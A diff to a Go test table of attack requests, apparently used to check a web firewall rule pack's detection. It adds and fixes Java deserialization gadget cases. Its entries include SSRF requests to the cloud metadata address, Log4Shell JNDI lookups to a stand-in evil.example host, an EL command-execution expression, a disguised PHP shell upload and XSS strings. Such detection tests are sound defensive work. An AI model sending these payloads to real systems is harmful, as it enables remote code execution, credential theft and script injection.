@@ -244,6 +244,7 @@ var packAttacks = []struct {
 	{"ssrf body", "ssrf", txn{uri: "/api/webhook", body: `{"callback":"http://169.254.169.254/latest/user-data"}`}},
 	{"ssrf host header", "ssrf", txn{uri: "/latest/meta-data/", headers: withHeader("Host", "169.254.169.254")}},
 	// Java
+	{"java gadget base64 without a stream header", "java", txn{uri: "/api/import", body: "blob=AAFjYy5mdW5jdG9ycy5JbnZva2VyVHJhbnNmb3JtZXIAeA%3D%3D"}},
 	{"log4shell ua", "java", txn{uri: "/", headers: withHeader("User-Agent", "${jndi:ldap://evil.example/a}")}},
 	{"log4shell lower", "java", txn{uri: "/", headers: withHeader("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/a}")}},
 	{"log4shell default values", "java", txn{uri: "/", headers: withHeader("Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}")}},
@@ -281,7 +282,7 @@ var packAttacks = []struct {
 	{"php upload", "php", txn{uri: "/upload", body: "--b2\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.phtml\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b2--\r\n"}},
 	{"java class in cookie name", "java", txn{uri: "/", headers: withHeader("Cookie", "java.lang.Runtime=x")}},
 	{"java gadget json name", "java", txn{uri: "/api/obj", body: `{"org.apache.commons.collections.functors.InvokerTransformer":"x"}`}},
-	{"java gadget base64 header", "java", txn{uri: "/", headers: withHeader("X-Data", "cHJvY2Vzc2J1aWxkZXI=")}},
+	{"java gadget base64 header", "java", txn{uri: "/", headers: withHeader("X-Data", "UHJvY2Vzc0J1aWxkZXI=")}},
 	{"java el expression", "java", txn{uri: "/get?x=" + q("${T(java.lang.Runtime).getRuntime().exec('id')}")}},
 	{"xss cookie", "xss", txn{uri: "/", headers: withHeader("Cookie", "lang=en; name=%3Cscript%3Ealert(1)%3C%2Fscript%3E")}},
 	{"xss referer", "xss", txn{uri: "/", headers: withHeader("Referer", "https://x.example/<svg/onload=alert(1)>")}},
